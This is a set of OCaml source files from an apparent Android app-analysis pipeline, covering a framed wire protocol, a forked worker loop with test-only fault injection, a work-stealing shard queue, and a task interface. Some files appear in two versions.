  | exception Unix.Unix_error ((Unix.ECONNRESET | Unix.EPIPE), _, _) ->
    `Eof (completed_frames r)

(* ---- tagged frames: the service protocol ---- *)

(* A tagged frame is an ordinary length-prefixed frame whose payload starts
   with two header bytes: the protocol version and a one-byte message tag.
   Reusing the v0 framing means the incremental [reader] above reassembles
   tagged traffic unchanged; only the payload interpretation differs.  The
   version byte exists so a stale client talking to a newer daemon (or
   vice versa) fails with one decisive error instead of silently
   misparsing JSON that happens to start plausibly. *)

let encode_tagged ~tag payload =
  let n = String.length payload + 2 in
  let b = Bytes.create (header_len + n) in
  Bytes.blit (encode_len n) 0 b 0 header_len;
  Bytes.set b header_len (Char.chr protocol_version);
  Bytes.set b (header_len + 1) tag;
  Bytes.blit_string payload 0 b (header_len + 2) (String.length payload);
  b

let write_tagged fd ~tag payload = write_all fd (encode_tagged ~tag payload)

let parse_tagged frame =
  let n = String.length frame in
  if n < 2 then
    Error
      (Printf.sprintf
         "protocol error: %d-byte frame is too short for a version+tag header"
         n)
  else
    let v = Char.code frame.[0] in
    if v <> protocol_version then
      Error
        (Printf.sprintf
           "protocol version mismatch: peer speaks v%d, this binary speaks \
            v%d — refusing to parse"
           v protocol_version)
    else Ok (frame.[1], String.sub frame 2 (n - 2))
