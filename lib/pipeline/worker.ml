module Json = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict
module Metrics = Ndroid_obs.Metrics
module Ring = Ndroid_obs.Ring
module Stream = Ndroid_obs.Stream

let meta_int key (r : Verdict.report) =
  match
    ( List.assoc_opt key r.Verdict.r_meta,
      List.assoc_opt ("dynamic_" ^ key) r.Verdict.r_meta )
  with
  | Some (Json.Int n), _ | None, Some (Json.Int n) -> n
  | _ -> 0

let act_on_fault = function
  | None -> ()
  | Some Task.Crash -> Unix._exit 66
  | Some Task.Kill ->
    (* death by signal: indistinguishable from an OOM kill to the parent *)
    Unix.kill (Unix.getpid ()) Sys.sigkill
  | Some Task.Hang ->
    let rec hang () =
      Unix.sleep 3600;
      hang ()
    in
    hang ()
  | Some (Task.Sleep s) ->
    (* deterministic slowness, then the analysis proceeds normally *)
    Unix.sleepf s

let trace_batch = 256

(* Trace frames for one finished task, written to the result pipe *before*
   the result frame so the server fans events out ahead of the verdict.
   The cumulative throttle/wraparound counts ride only the final chunk —
   the server sums per-frame deltas, and intermediate chunks carry 0s. *)
let write_trace result_w ~id ~app ~events ~dropped ~lost =
  let rec chunks = function
    | [] -> []
    | evs ->
      let rec take n acc = function
        | rest when n = 0 -> (List.rev acc, rest)
        | [] -> (List.rev acc, [])
        | ev :: rest -> take (n - 1) (ev :: acc) rest
      in
      let batch, rest = take trace_batch [] evs in
      batch :: chunks rest
  in
  let batches = chunks events in
  let batches = if batches = [] then [ [] ] else batches in
  let n = List.length batches in
  if events <> [] || dropped > 0 || lost > 0 then
    List.iteri
      (fun i batch ->
        let final = i = n - 1 in
        Wire.write_frame result_w
          (Json.to_string
             (Json.Obj
                [ ("trace",
                   Json.Obj
                     [ ("id", Json.Int id);
                       ("app", Json.Str app);
                       ("events",
                        Json.List (List.map Stream.event_json batch));
                       ("dropped", Json.Int (if final then dropped else 0));
                       ("lost", Json.Int (if final then lost else 0)) ]) ])))
      batches

let loop task_r result_w =
  let respond id seconds report metrics =
    Wire.write_frame result_w
      (Json.to_string
         (Json.Obj
            [ ("id", Json.Int id);
              ("seconds", Json.Float seconds);
              ("metrics", metrics);
              ("report", Verdict.report_to_json report) ]))
  in
  let rec loop () =
    match Wire.read_frame task_r with
    | None -> ()
    | Some payload ->
      (match Json.of_string payload with
       | Error _ -> ()
       | Ok j -> (
         match Task.of_json j with
         | Error _ -> ()
         | Ok task ->
           (* the optional streaming request rides the task frame as an
              extra member ({!Task.of_json} ignores members it does not
              know): the throttle window in event-seq units *)
           let trace = Option.bind (Json.member "trace" j) Json.int in
           act_on_fault task.Task.t_fault;
           (* a fresh per-task hub: its metrics registry rides the result
              frame back to the parent, which merges registries across the
              whole sweep *)
           let ring = Ring.create ~capacity:4096 () in
           let t0 = Unix.gettimeofday () in
           let report = Analysis.run ~obs:ring task in
           let dt = Unix.gettimeofday () -. t0 in
           let m = Ring.metrics ring in
           Metrics.incr (Metrics.counter m "tasks");
           Metrics.observe (Metrics.histogram m "task_seconds") dt;
           Metrics.observe_int
             (Metrics.histogram m "task_bytecodes")
             (meta_int "bytecodes" report);
           Metrics.add
             (Metrics.counter m "ring_overwritten")
             (Ring.overwritten ring);
           (match trace with
            | None -> ()
            | Some window ->
              let tap = Stream.tap ~window () in
              let events = Stream.drain tap ring in
              Metrics.add
                (Metrics.counter m "trace_events")
                (List.length events);
              Metrics.add
                (Metrics.counter m "trace_dropped")
                (Stream.tap_dropped tap);
              write_trace result_w ~id:task.Task.t_id
                ~app:report.Verdict.r_app ~events
                ~dropped:(Stream.tap_dropped tap)
                ~lost:(Stream.tap_missed tap));
           respond task.Task.t_id dt report (Metrics.to_json m)));
      loop ()
  in
  (try loop () with _ -> ());
  Unix._exit 0
