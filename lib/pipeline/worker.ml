module Json = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict
module Metrics = Ndroid_obs.Metrics
module Ring = Ndroid_obs.Ring

let meta_int key (r : Verdict.report) =
  match
    ( List.assoc_opt key r.Verdict.r_meta,
      List.assoc_opt ("dynamic_" ^ key) r.Verdict.r_meta )
  with
  | Some (Json.Int n), _ | None, Some (Json.Int n) -> n
  | _ -> 0

let act_on_fault = function
  | None -> ()
  | Some Task.Crash -> Unix._exit 66
  | Some Task.Kill ->
    (* death by signal: indistinguishable from an OOM kill to the parent *)
    Unix.kill (Unix.getpid ()) Sys.sigkill
  | Some Task.Hang ->
    let rec hang () =
      Unix.sleep 3600;
      hang ()
    in
    hang ()
  | Some (Task.Sleep s) ->
    (* deterministic slowness, then the analysis proceeds normally *)
    Unix.sleepf s

let loop task_r result_w =
  let respond id seconds report metrics =
    Wire.write_frame result_w
      (Json.to_string
         (Json.Obj
            [ ("id", Json.Int id);
              ("seconds", Json.Float seconds);
              ("metrics", metrics);
              ("report", Verdict.report_to_json report) ]))
  in
  let rec loop () =
    match Wire.read_frame task_r with
    | None -> ()
    | Some payload ->
      (match Result.bind (Json.of_string payload) Task.of_json with
       | Error _ -> ()
       | Ok task ->
         act_on_fault task.Task.t_fault;
         (* a fresh per-task hub: its metrics registry rides the result
            frame back to the parent, which merges registries across the
            whole sweep *)
         let ring = Ring.create ~capacity:4096 () in
         let t0 = Unix.gettimeofday () in
         let report = Analysis.run ~obs:ring task in
         let dt = Unix.gettimeofday () -. t0 in
         let m = Ring.metrics ring in
         Metrics.incr (Metrics.counter m "tasks");
         Metrics.observe (Metrics.histogram m "task_seconds") dt;
         Metrics.observe_int
           (Metrics.histogram m "task_bytecodes")
           (meta_int "bytecodes" report);
         respond task.Task.t_id dt report (Metrics.to_json m));
      loop ()
  in
  (try loop () with _ -> ());
  Unix._exit 0
