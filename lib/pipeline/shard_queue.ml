(* Each shard is a two-list amortized FIFO so the server's admission path
   gets O(1) pushes; the batch pool only ever deals once and pops, which
   the front list alone used to cover. *)
type 'a shard = {
  mutable front : 'a list;  (* next to run is the head *)
  mutable back : 'a list;  (* pushed items, newest first *)
  mutable len : int;
}

type 'a t = {
  shards : 'a shard array;
  capacity : int;
  mutable size : int;
  mutable stolen : int;
  mutable cursor : int;  (* round-robin scan start for {!pop_rr} *)
}

let default_capacity = 1_000_000

let create_empty ~shards ?(capacity = default_capacity) () =
  if shards < 1 then invalid_arg "Shard_queue.create: shards must be >= 1";
  { shards = Array.init shards (fun _ -> { front = []; back = []; len = 0 });
    capacity; size = 0; stolen = 0; cursor = 0 }

let create ~shards ?(capacity = default_capacity) items =
  let t = create_empty ~shards ~capacity () in
  let n = List.length items in
  if n > capacity then
    invalid_arg
      (Printf.sprintf "Shard_queue.create: %d items exceed the %d-task bound"
         n capacity);
  List.iteri
    (fun i item ->
      let s = t.shards.(i mod shards) in
      s.front <- item :: s.front;
      s.len <- s.len + 1)
    items;
  Array.iter (fun s -> s.front <- List.rev s.front) t.shards;
  t.size <- n;
  t

let remaining t = t.size
let steals t = t.stolen
let shards t = Array.length t.shards
let shard_depth t ~shard = t.shards.(shard mod Array.length t.shards).len

let push t ~shard item =
  if t.size >= t.capacity then false
  else begin
    let s = t.shards.(shard mod Array.length t.shards) in
    s.back <- item :: s.back;
    s.len <- s.len + 1;
    t.size <- t.size + 1;
    true
  end

(* front, refilled from back when dry; caller already checked len > 0 *)
let take_front s =
  (match s.front with
   | [] ->
     s.front <- List.rev s.back;
     s.back <- []
   | _ :: _ -> ());
  match s.front with
  | [] -> None
  | x :: rest ->
    s.front <- rest;
    s.len <- s.len - 1;
    Some x

let fullest_other t ~shard =
  let best = ref (-1) and best_len = ref 0 in
  Array.iteri
    (fun i s ->
      if i <> shard && s.len > !best_len then begin
        best := i;
        best_len := s.len
      end)
    t.shards;
  if !best >= 0 then Some (!best, !best_len) else None

let split_at n l =
  let rec go acc k = function
    | rest when k = 0 -> (List.rev acc, rest)
    | [] -> (List.rev acc, [])
    | x :: rest -> go (x :: acc) (k - 1) rest
  in
  go [] n l

let pop t ~shard =
  if t.size = 0 then None
  else begin
    let shard = shard mod Array.length t.shards in
    let own = t.shards.(shard) in
    if own.len = 0 then begin
      (* steal the back half of the fullest foreign shard *)
      match fullest_other t ~shard with
      | None -> ()
      | Some (victim, len) ->
        let v = t.shards.(victim) in
        let keep = len / 2 in
        let kept, stolen = split_at keep (v.front @ List.rev v.back) in
        v.front <- kept;
        v.back <- [];
        v.len <- keep;
        own.front <- stolen;
        own.back <- [];
        own.len <- len - keep;
        t.stolen <- t.stolen + 1
    end;
    if own.len = 0 then None
    else begin
      t.size <- t.size - 1;
      take_front own
    end
  end

let pop_rr t =
  if t.size = 0 then None
  else begin
    let n = Array.length t.shards in
    let found = ref None in
    let i = ref 0 in
    while !found = None && !i < n do
      let idx = (t.cursor + !i) mod n in
      let s = t.shards.(idx) in
      if s.len > 0 then begin
        t.size <- t.size - 1;
        t.cursor <- idx + 1;  (* next scan starts past the served shard *)
        found := take_front s
      end;
      incr i
    done;
    !found
  end

let clear_shard t ~shard =
  let s = t.shards.(shard mod Array.length t.shards) in
  let dropped = s.front @ List.rev s.back in
  t.size <- t.size - s.len;
  s.front <- [];
  s.back <- [];
  s.len <- 0;
  dropped
