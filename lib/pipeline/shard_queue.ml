type 'a t = {
  shards : 'a list ref array;  (* front = next to run *)
  mutable size : int;
  mutable stolen : int;
}

let default_capacity = 1_000_000

let create ~shards ?(capacity = default_capacity) items =
  if shards < 1 then invalid_arg "Shard_queue.create: shards must be >= 1";
  let n = List.length items in
  if n > capacity then
    invalid_arg
      (Printf.sprintf "Shard_queue.create: %d items exceed the %d-task bound"
         n capacity);
  let arr = Array.init shards (fun _ -> ref []) in
  List.iteri (fun i item -> arr.(i mod shards) := item :: !(arr.(i mod shards))) items;
  Array.iter (fun r -> r := List.rev !r) arr;
  { shards = arr; size = n; stolen = 0 }

let remaining t = t.size
let steals t = t.stolen

let fullest_other t ~shard =
  let best = ref (-1) and best_len = ref 0 in
  Array.iteri
    (fun i r ->
      if i <> shard then begin
        let len = List.length !r in
        if len > !best_len then begin
          best := i;
          best_len := len
        end
      end)
    t.shards;
  if !best >= 0 then Some (!best, !best_len) else None

let split_at n l =
  let rec go acc k = function
    | rest when k = 0 -> (List.rev acc, rest)
    | [] -> (List.rev acc, [])
    | x :: rest -> go (x :: acc) (k - 1) rest
  in
  go [] n l

let pop t ~shard =
  if t.size = 0 then None
  else begin
    let shard = shard mod Array.length t.shards in
    let own = t.shards.(shard) in
    (match !own with
     | _ :: _ -> ()
     | [] -> (
       (* steal the back half of the fullest foreign shard *)
       match fullest_other t ~shard with
       | None -> ()
       | Some (victim, len) ->
         let keep = len / 2 in
         let kept, stolen = split_at keep !(t.shards.(victim)) in
         t.shards.(victim) := kept;
         own := stolen;
         t.stolen <- t.stolen + 1));
    match !own with
    | [] -> None
    | x :: rest ->
      own := rest;
      t.size <- t.size - 1;
      Some x
  end
