(** One unit of pipeline work: which app, which analyzer, and (for the
    fault-injection harness) whether the worker should die on it.

    Tasks cross the worker pipe as JSON, so a subject must be something a
    freshly forked worker can rebuild from the description alone: a bundled
    scenario app by registry name, or one synthetic market app by
    generator coordinates (params + id). *)

type mode = Static | Dynamic | Both | Hybrid
(** [Hybrid] runs static first and proves clean apps clean with no
    emulation; only flagged apps get a focused dynamic pass gated to the
    static slice's focus set. *)

type subject =
  | Bundled of string  (** a {!Ndroid_apps.Registry} app name *)
  | Market of { m_total : int; m_seed : int; m_permille : int option;
                m_id : int }
      (** app [m_id] of [Market.generate {total; seed; type1_permille}] *)

(** Injected worker misbehaviour, exercised by the crash-isolation tests,
    the service-layer tests and `bench/main.exe pipeline`:
    [Crash] makes the worker process exit hard mid-task, [Kill] makes it
    SIGKILL itself (death by signal, exactly what an OOM kill looks like),
    [Hang] makes it spin past any per-app timeout, and [Sleep s] delays
    the analysis by [s] seconds (a deterministic "slow app" for fairness
    and shedding tests).  Never set on real analysis work. *)
type fault = Crash | Kill | Hang | Sleep of float

type t = {
  t_id : int;  (** dense index; results are ordered by it *)
  t_subject : subject;
  t_mode : mode;
  t_fault : fault option;
}

val mode_name : mode -> string
val mode_of_name : string -> mode option

val subject_name : subject -> string
(** Stable display/app name: the registry name, or the market app's
    generated package. *)

val market_model : total:int -> seed:int -> permille:int option -> int ->
  Ndroid_corpus.App_model.t
(** Rebuild the market app a [Market] subject points at. *)

val of_market_slice : ?mode:mode -> Ndroid_corpus.Market.params -> t list
(** One [Static] task per app of the slice, ids [0..total-1]. *)

val to_json : t -> Ndroid_report.Json.t
val of_json : Ndroid_report.Json.t -> (t, string) result

val subject_to_json : subject -> Ndroid_report.Json.t
val subject_of_json : Ndroid_report.Json.t -> (subject, string) result
(** The subject codec alone — shared with the service protocol
    ({!Ndroid_pipeline.Proto}), whose [Submit] messages carry a subject
    but mint their own ids. *)

val fault_to_json : fault option -> Ndroid_report.Json.t
val fault_of_json : Ndroid_report.Json.t option -> (fault option, string) result
